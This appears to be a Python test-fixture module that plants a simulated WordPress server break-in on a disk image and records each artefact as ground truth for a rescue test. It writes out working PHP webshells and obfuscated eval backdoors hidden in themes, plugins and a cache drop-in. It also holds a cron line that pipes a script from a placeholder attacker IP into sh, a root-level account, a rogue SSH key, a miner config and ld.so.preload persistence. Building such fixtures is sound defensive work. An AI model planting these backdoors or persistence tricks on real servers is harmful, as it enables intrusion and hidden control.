"""The break-in: what the intruder left on the old server (files only; the database
part — unknown administrators, a role of its own, open registration, <script>s in a
post, a widget and a custom field, a rogue cron event, an active backdoor plugin, the
news site's ``home`` pointed elsewhere — is populate.php's phase 3).

Each plant returns an :class:`Indicator` for the ground truth: where it is, what kind,
and a distinctive ``evidence`` string (bytes found in the file) so a test can prove the
indicator is really on the image. Time stamps fall in the compromise window.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import struct
import subprocess
import zlib
from dataclasses import asdict, dataclass, field
from pathlib import Path

from ..errors import MissingToolError, OldDiskBuildError
from .content import BLOG, NEWS
from .files import epoch, make_torrent_download

#: Where a fired booby trap leaves its marker: visible from outside a chroot
#: (/dev/shm, usually bind-mounted) and on the disk itself (/tmp, /var/tmp).
BOOBYTRAP_MARKER = "vpsr-boobytrap-fired"
BOOBYTRAP_DIRS = ("/tmp", "/dev/shm", "/var/tmp")
TRAP_SOURCE = Path(__file__).with_name("trap") / "preload.c"

ATTACKER_IP = "203.0.113.66"  # TEST-NET-3: documentation only, never contacted
WINDOW = ("2024-03-11 03:00:00", "2024-03-20 23:59:59")


@dataclass(frozen=True)
class Indicator:
    id: str
    kind: str
    path: str  # on the old system ("" for database-only indicators)
    description: str
    evidence: str = ""  # a string the file contains (UTF-8), empty for absence checks
    extra: dict[str, object] = field(default_factory=dict)

    def as_json(self) -> dict[str, object]:
        d = asdict(self)
        if not d["extra"]:
            del d["extra"]
        return d


def _put(root: Path, path: str, data: bytes | str, *, mode: int = 0o644, uid: int = 0,
         gid: int = 0, when: str = "2024-03-11 03:20:00") -> Path:
    p = root / path.lstrip("/")
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode() if isinstance(data, str) else data)
    os.chown(p, uid, gid)
    p.chmod(mode)
    t = epoch(when)
    os.utime(p, (t, t))
    return p


def _append(root: Path, path: str, data: bytes, when: str) -> None:
    p = root / path.lstrip("/")
    st = p.stat()
    with open(p, "ab") as f:
        f.write(data)
    t = epoch(when)
    os.utime(p, (t, t))
    os.chown(p, st.st_uid, st.st_gid)


def ssh_ed25519_key(seed: str, comment: str) -> str:
    """A well-formed ssh-ed25519 public key line from ``seed`` (no private key exists)."""
    pub = hashlib.sha256(seed.encode()).digest()

    def s(b: bytes) -> bytes:
        return struct.pack(">I", len(b)) + b

    blob = s(b"ssh-ed25519") + s(pub)
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"


def _obfuscated_php(payload: str) -> str:
    """What scanners look for: eval(gzinflate(base64_decode(...)))."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = c.compress(payload.encode()) + c.flush()
    return f"@eval(gzinflate(base64_decode('{base64.b64encode(raw).decode()}')));"


def _md5sum_of(root: Path, package: str, rel: str) -> str:
    for line in (root / f"var/lib/dpkg/info/{package}.md5sums").read_text().splitlines():
        md5, _, path = line.partition("  ")
        if path == rel:
            return md5
    raise OldDiskBuildError(f"{rel} is not in {package}.md5sums on the old system")


def _compile_trap(dest: Path) -> None:
    if shutil.which("gcc") is None:
        raise MissingToolError("gcc is missing: run 'make setup' to install it.")
    res = subprocess.run(
        ["gcc", "-shared", "-fPIC", "-nostdlib", "-O2", "-Wl,--build-id=none",
         "-Wl,-soname,libkeyutils.so.1", "-o", str(dest), str(TRAP_SOURCE)],
        capture_output=True)
    if res.returncode != 0:
        raise OldDiskBuildError(f"compiling the booby-trap library failed: {res.stderr!r}")


def _trap_script(real: str, name: str) -> str:
    marks = " ".join(f"{d}/{BOOBYTRAP_MARKER}" for d in BOOBYTRAP_DIRS)
    return f"""#!/bin/sh
# {name} wrapper: keeps a copy of every run for the admin (installed 2024-03-11)
for f in {marks}; do
  echo "vpsrescue booby trap fired: $0 $*" >> "$f" 2>/dev/null
done
exec {real} "$@"
"""


def plant(root: Path, seed: str, *, www: tuple[int, int],
          transmission: tuple[int, int], torrent_size: int) -> list[Indicator]:
    """Plant every file-level indicator; return them all (with the DB ones) for the truth."""
    found: list[Indicator] = []
    blog_uploads = f"{BLOG.content_dir}/uploads"
    news_uploads = f"{NEWS.content_dir}/uploads"

    # 1. A PHP webshell in the blog's uploads.
    shell = ("<?php\n/* WordPress cache helper */\n"
             "if (isset($_REQUEST['c'])) { echo '<pre>'; @system($_REQUEST['c']); exit; }\n"
             "if (!empty($_FILES['f'])) { @move_uploaded_file($_FILES['f']['tmp_name'], "
             "$_FILES['f']['name']); echo 'ok'; exit; }\n"
             "?>\n<form method=post enctype=multipart/form-data>"
             "<input type=file name=f><input type=submit></form>\n")
    path = f"{blog_uploads}/2023/11/wp-cache.php"
    _put(root, path, shell, uid=www[0], gid=www[1], when="2024-03-11 03:16:40")
    found.append(Indicator("webshell-uploads", "webshell", path,
                           "PHP webshell (system($_REQUEST['c']) + file upload) in uploads",
                           "@system($_REQUEST['c'])", {"site": BLOG.key}))

    # 2. Obfuscated backdoor appended to a theme file (also breaks dpkg's md5sum).
    theme_rel = "usr/share/wordpress/wp-content/themes/twentytwentyone/functions.php"
    backdoor = _obfuscated_php(
        "if(isset($_COOKIE['wp_sess'])){eval(base64_decode($_COOKIE['wp_sess']));}")
    _append(root, "/" + theme_rel, f"\n{backdoor}\n".encode(), "2024-03-11 03:18:02")
    found.append(Indicator(
        "theme-backdoor", "php_backdoor", "/" + theme_rel,
        "eval(gzinflate(base64_decode(...))) appended to the theme's functions.php",
        "@eval(gzinflate(base64_decode(",
        {"site": BLOG.key, "package": "wordpress-theme-twentytwentyone",
         "dpkg_md5": _md5sum_of(root, "wordpress-theme-twentytwentyone", theme_rel)}))

    # 3. .htaccess with auto_prepend_file pointing at a second dropper in uploads.
    dropper = f"{news_uploads}/2019/09/.sess.php"
    _put(root, dropper, "<?php " + _obfuscated_php(
        "if(isset($_POST['k'])){@assert($_POST['k']);}") + " ?>\n",
         uid=www[0], gid=www[1], when="2024-03-12 01:02:03")
    found.append(Indicator("dropper-uploads", "webshell", dropper,
                           "hidden obfuscated PHP in the news site's uploads",
                           "gzinflate(base64_decode(", {"site": NEWS.key}))
    htaccess = (
        f'php_value auto_prepend_file "{dropper}"\n'
        "# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\n"
        "RewriteRule ^index\\.php$ - [L]\nRewriteCond %{REQUEST_FILENAME} !-f\n"
        "RewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n"
        "</IfModule>\n# END WordPress\n")
    path = f"{NEWS.path}/.htaccess"
    _put(root, path, htaccess, uid=www[0], gid=www[1], when="2024-03-12 01:02:10")
    found.append(Indicator("htaccess-prepend", "htaccess", path,
                           ".htaccess runs a dropper before every PHP request "
                           "(php_value auto_prepend_file)", "auto_prepend_file",
                           {"site": NEWS.key}))

    # 4. A second uid-0 account.
    with open(root / "etc/passwd", "a") as f:
        f.write("sysbackup:x:0:0:System Backup:/var/backups/.sys:/bin/bash\n")
    with open(root / "etc/shadow", "a") as f:
        f.write("sysbackup:$6$Qx3vTt1p$ZB0xL9aD1a0e6o0tBqYkq5k5cXl2Gm3yYw8mJ8m0QmKcX8r"
                "3Jm2Yw1cQk5d3Yg4n6L0oZ3x5mV9z1tQeKf0r1:19793:0:99999:7:::\n")
    (root / "var/backups/.sys").mkdir(parents=True, exist_ok=True)
    for p in ("etc/passwd", "etc/shadow"):
        t = epoch("2024-03-11 03:21:00")
        os.utime(root / p, (t, t))
    found.append(Indicator("uid0-user", "uid0_account", "/etc/passwd",
                           "extra uid 0 account 'sysbackup' with a password",
                           "sysbackup:x:0:0:"))

    # 5. The attacker's key next to the admin's in root's authorized_keys.
    admin_key = ssh_ed25519_key(seed + ":admin-key", "zhang@thinkpad")
    attacker_key = ssh_ed25519_key(seed + ":attacker-key", "root@localhost")
    ssh_dir = root / "root/.ssh"
    ssh_dir.mkdir(mode=0o700, exist_ok=True)
    _put(root, "/root/.ssh/authorized_keys", f"{admin_key}\n{attacker_key}\n", mode=0o600,
         when="2024-03-11 03:22:30")
    found.append(Indicator("attacker-ssh-key", "authorized_key", "/root/.ssh/authorized_keys",
                           "unknown ed25519 key 'root@localhost' for root",
                           attacker_key.split()[1], {"legit_key": admin_key.split()[1]}))

    # 6. Cron job fetching and running a script.
    cron = (f"*/15 * * * * root (curl -fsSL http://{ATTACKER_IP}/u.sh || "
            f"wget -q -O- http://{ATTACKER_IP}/u.sh) | sh >/dev/null 2>&1\n")
    _put(root, "/etc/cron.d/apache2-update", "# apache2 maintenance\n" + cron,
         when="2024-03-11 03:25:00")
    found.append(Indicator("cron-fetch", "cron", "/etc/cron.d/apache2-update",
                           "cron job downloads and runs a script from a foreign host",
                           f"http://{ATTACKER_IP}/u.sh"))

    # 7. A systemd unit no package owns, enabled, running an ELF from a hidden dir.
    miner = "/var/tmp/.X11-unix/kworkerd"
    _put(root, miner, (root / "bin/sleep").read_bytes(), mode=0o755,
         when="2024-03-11 03:26:00")
    _put(root, "/var/tmp/.X11-unix/config.json", json.dumps({
        "autosave": True, "cpu": {"enabled": True, "max-threads-hint": 75},
        "pools": [{"url": "pool.minexmr.example.com:4444", "user": "44AFFq5kSiGBoZ...",
                   "pass": "x", "keepalive": True}]}, indent=2) + "\n",
         when="2024-03-11 03:26:00")
    unit = ("[Unit]\nDescription=Kernel worker daemon\nAfter=network-online.target\n\n"
            f"[Service]\nExecStart={miner} -c /var/tmp/.X11-unix/config.json\n"
            "Restart=always\nNice=10\n\n[Install]\nWantedBy=multi-user.target\n")
    _put(root, "/etc/systemd/system/kworkerd.service", unit, when="2024-03-11 03:26:30")
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True, exist_ok=True)
    (wants / "kworkerd.service").symlink_to("/etc/systemd/system/kworkerd.service")
    found.append(Indicator("systemd-unit", "systemd_unit", "/etc/systemd/system/kworkerd.service",
                           "enabled systemd unit owned by no package (a miner)",
                           f"ExecStart={miner}"))
    found.append(Indicator("hidden-elf", "elf_in_tmp", miner,
                           "ELF binary in a hidden directory under /var/tmp", "ELF"))
    found.append(Indicator("miner-config", "miner", "/var/tmp/.X11-unix/config.json",
                           "xmrig-style miner configuration with a pool URL", "pools"))

    # 8. /etc/ld.so.preload → a library whose constructor is the booby trap.
    lib = "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"  # Ebury-style name, unowned
    libpath = root / lib.lstrip("/")
    _compile_trap(libpath)
    t = epoch("2024-03-11 03:27:00")
    os.utime(libpath, (t, t))
    _put(root, "/etc/ld.so.preload", lib + "\n", when="2024-03-11 03:27:10")
    found.append(Indicator("ld-so-preload", "ld_so_preload", "/etc/ld.so.preload",
                           "ld.so.preload loads an unowned library into every process", lib))
    found.append(Indicator("boobytrap-preload", "boobytrap", lib,
                           "preloaded library whose constructor leaves the booby-trap marker",
                           BOOBYTRAP_MARKER))

    # 9. A modified system binary: sshd with bytes appended (md5 no longer matches).
    rel = "usr/sbin/sshd"
    expected = _md5sum_of(root, "openssh-server", rel)
    _append(root, "/" + rel, b"\0" * 16 + b"PAM_BACKDOOR_PW=letmein2024\0", "2024-03-11 03:28:00")
    found.append(Indicator("modified-sshd", "modified_binary", "/" + rel,
                           "sshd differs from openssh-server's md5sums (trojaned)",
                           "PAM_BACKDOOR_PW", {"package": "openssh-server", "dpkg_md5": expected}))

    # 10. BitTorrent: transmission-daemon (installed from apt), reconfigured, a download.
    settings = {
        "blocklist-enabled": 0, "download-dir": "/var/lib/transmission-daemon/downloads",
        "download-limit": 100, "download-limit-enabled": 0, "encryption": 1,
        "max-peers-global": 400, "peer-port": 51413, "pex-enabled": 1,
        "port-forwarding-enabled": 1, "rpc-authentication-required": 1,
        "rpc-bind-address": "0.0.0.0", "rpc-enabled": 1,
        "rpc-password": "{6f1ed002ab5595859014ebf0951522d9d9b4b4b5f2a3c1dd",
        "rpc-port": 9091, "rpc-username": "admin", "rpc-whitelist": "*",
        "rpc-whitelist-enabled": 0, "upload-limit": 100, "upload-limit-enabled": 0,
    }
    _put(root, "/etc/transmission-daemon/settings.json",
         json.dumps(settings, indent=4, sort_keys=True) + "\n", mode=0o600,
         uid=transmission[0], gid=transmission[1], when="2024-03-13 22:10:00")
    found.append(Indicator("transmission-settings", "bittorrent",
                           "/etc/transmission-daemon/settings.json",
                           "transmission-daemon RPC opened to everyone (whitelist off, 0.0.0.0)",
                           '"rpc-whitelist-enabled": 0'))
    tr_home = root / "var/lib/transmission-daemon"
    dl = make_torrent_download(
        tr_home / "downloads", tr_home / ".config/transmission-daemon/torrents",
        "Big.Buck.Bunny.2008.1080p.BluRay.x264.mkv", torrent_size, seed)
    for tp in (dl.data_path, dl.torrent_path):
        os.chown(tp, *transmission)
        t = epoch("2024-03-14 04:00:00")
        os.utime(tp, (t, t))
    for tdir in (tr_home / "downloads", tr_home / ".config/transmission-daemon/torrents"):
        os.chown(tdir, *transmission)
    data_rel = "/" + str(dl.data_path.relative_to(root))
    found.append(Indicator("torrent-download", "bittorrent", data_rel,
                           f"large BitTorrent download ({dl.size} bytes)", "",
                           {"size": dl.size, "info_hash": dl.info_hash,
                            "torrent": "/" + str(dl.torrent_path.relative_to(root))}))
    found.append(Indicator("transmission-installed", "bittorrent",
                           "/var/lib/dpkg/info/transmission-daemon.list",
                           "transmission-daemon installed and enabled",
                           "/usr/bin/transmission-daemon"))

    # 11. Booby-trapped helpers where a careless rescuer would run them (first in PATH).
    for name, real in (("mysqldump", "/usr/bin/mysqldump"), ("wp", "/usr/bin/php")):
        path = f"/usr/local/bin/{name}"
        _put(root, path, _trap_script(real, name), mode=0o755, when="2024-03-11 03:29:00")
        found.append(Indicator(f"boobytrap-{name}", "boobytrap", path,
                               f"{name} in /usr/local/bin (before /usr/bin in PATH) that "
                               "leaves the booby-trap marker when run", BOOBYTRAP_MARKER))

    # 12. Traces in the logs.
    auth = "".join(
        f"Mar 11 03:{m:02d}:{s:02d} vps-blog sshd[{2100 + m}]: Accepted password for root "
        f"from {ATTACKER_IP} port {40000 + m * 7} ssh2\n" for m, s in ((12, 5), (19, 44)))
    _put(root, "/var/log/auth.log.1", auth, mode=0o640, gid=4, when="2024-03-17 00:00:00")
    found.append(Indicator("auth-log", "log", "/var/log/auth.log.1",
                           f"root logins by password from {ATTACKER_IP}",
                           f"Accepted password for root from {ATTACKER_IP}"))
    access = "".join(
        f'{ATTACKER_IP} - - [11/Mar/2024:03:{m:02d}:00 +0800] "POST /wp-content/uploads/'
        f'2023/11/wp-cache.php HTTP/1.1" 200 {120 + m} "-" "Mozilla/5.0"\n'
        for m in range(17, 30, 3))
    _put(root, f"/var/log/apache2/{BLOG.host}-access.log.1", access, mode=0o640, gid=4,
         when="2024-03-17 00:00:00")
    found.append(Indicator("access-log", "log", f"/var/log/apache2/{BLOG.host}-access.log.1",
                           "POSTs to a PHP file in uploads", "POST /wp-content/uploads/"))
    hist = root / "root/.bash_history"
    if hist.exists() or hist.is_symlink():
        hist.unlink()
    hist.symlink_to("/dev/null")
    found.append(Indicator("history-devnull", "log", "/root/.bash_history",
                           "root's shell history redirected to /dev/null", "",
                           {"symlink_to": "/dev/null"}))

    # 13. A must-use plugin that hides the intruder's account from the users screen.
    mu = f"{BLOG.content_dir}/mu-plugins/wp-session-helper.php"
    intruder = next(u for u in BLOG.users if u.planted)
    _put(root, mu, "<?php\n/* Plugin Name: WP Session Helper */\n"
         "add_action('pre_user_query', function ($q) {\n    global $wpdb;\n"
         f"    $q->query_where .= \" AND {{$wpdb->users}}.user_login != '{intruder.login}'\";\n"
         "});\n", uid=www[0], gid=www[1], when="2024-03-11 03:31:00")
    found.append(Indicator("mu-plugin-hider", "mu_plugin", mu,
                           "must-use plugin hiding the unknown administrator from wp-admin",
                           f"user_login != '{intruder.login}'", {"site": BLOG.key}))

    # 14. A plugin that is nothing but a backdoor, active in the blog's active_plugins
    # (populate.php phase 3 activated it): quarantined, it must also leave that option.
    plugin = f"{BLOG.content_dir}/plugins/{BLOG.rogue_plugin}"
    _put(root, plugin, "<?php\n/*\nPlugin Name: WP Cache Helper\nVersion: 1.0.2\n*/\n"
         + _obfuscated_php("if(isset($_POST['wpc'])){eval(base64_decode($_POST['wpc']));}")
         + "\n", uid=www[0], gid=www[1], when="2024-03-12 08:05:00")
    found.append(Indicator("rogue-plugin", "php_backdoor", plugin,
                           "an active plugin that is only an obfuscated backdoor",
                           "@eval(gzinflate(base64_decode(",
                           {"site": BLOG.key, "active_plugins": BLOG.rogue_plugin}))

    # 15. A backdoor appended to the functions.php of the news site's active theme (its
    # own copy in wp-content, no package's): the rest of the theme is no theme to run.
    news_theme = f"{NEWS.content_dir}/themes/twentytwentyone/functions.php"
    _append(root, news_theme, ("\n" + _obfuscated_php(
        "if(isset($_SERVER['HTTP_X_WPT'])){eval(base64_decode($_SERVER['HTTP_X_WPT']));}")
        + "\n").encode(), "2024-03-12 01:04:00")
    found.append(Indicator("news-theme-backdoor", "php_backdoor", news_theme,
                           "backdoor appended to the active theme's functions.php (the "
                           "site's own copy in wp-content)", "@eval(gzinflate(base64_decode(",
                           {"site": NEWS.key, "active_theme": "twentytwentyone"}))

    # 16. A drop-in WordPress loads before everything else, posing as an object cache.
    dropin = f"{NEWS.content_dir}/object-cache.php"
    _put(root, dropin, "<?php\n/*\nPlugin Name: Redis Object Cache Drop-In\n*/\n"
         + _obfuscated_php("if(isset($_POST['oc'])){eval(base64_decode($_POST['oc']));}")
         + "\n", uid=www[0], gid=www[1], when="2024-03-12 01:05:00")
    found.append(Indicator("dropin-object-cache", "dropin", dropin,
                           "object-cache.php drop-in that is an obfuscated backdoor",
                           "@eval(gzinflate(base64_decode(", {"site": NEWS.key}))

    # Database-side indicators (planted by populate.php phase 3).
    found.append(Indicator("wp-rogue-cron", "wp_cron", "",
                           "WP-cron event calling a foreign URL every hour (cron option)",
                           BLOG.rogue_cron[0], {"site": BLOG.key, "url": BLOG.rogue_cron[1]}))
    found.append(Indicator("wp-unknown-admin", "wp_admin", "",
                           "unknown administrator 'wpsupport' in the blog's users table",
                           "wpsupport", {"site": BLOG.key, "user": "intruder"}))
    found.append(Indicator("wp-script-injection", "wp_post_script", "",
                           "<script> from a foreign host appended to a published post",
                           BLOG.injected_script, {"site": BLOG.key, "post": BLOG.injected_post}))
    planted = {u.key: u for u in BLOG.users if u.planted}
    found.append(Indicator("wp-planted-admin-2", "wp_admin", "",
                           "administrator with an ordinary name and an outside address, "
                           "registered in the compromise window", planted["intruder2"].login,
                           {"site": BLOG.key, "user": "intruder2"}))
    found.append(Indicator("wp-rogue-role", "wp_role", "",
                           f"custom role {BLOG.rogue_role[0]} that can install plugins",
                           BLOG.rogue_role[0], {"site": BLOG.key,
                                                "caps": list(BLOG.rogue_role[2])}))
    found.append(Indicator("wp-rogue-role-user", "wp_account", "",
                           f"account in the role {BLOG.rogue_role[0]}", planted["seo"].login,
                           {"site": BLOG.key, "user": "seo"}))
    found.append(Indicator("wp-open-registration", "wp_option", "",
                           "anyone can register, as an administrator",
                           f"default_role={BLOG.open_registration_role}",
                           {"site": BLOG.key, "option": "default_role"}))
    found.append(Indicator("wp-widget-script", "wp_option", "",
                           "<script> appended to a text widget (serialized widget_text)",
                           BLOG.widget_script, {"site": BLOG.key, "option": "widget_text"}))
    found.append(Indicator("wp-foreign-home", "wp_option", "",
                           "option home points to the intruder's host", NEWS.foreign_home,
                           {"site": NEWS.key, "option": "home", "clean": NEWS.url}))
    script = BLOG.meta_script[2][BLOG.meta_script[2].index("<script"):]
    found.append(Indicator("wp-meta-script", "wp_post_script", "",
                           "<script> in a post's custom field", script,
                           {"site": BLOG.key, "post": BLOG.meta_script[0],
                            "meta_key": BLOG.meta_script[1]}))
    return found
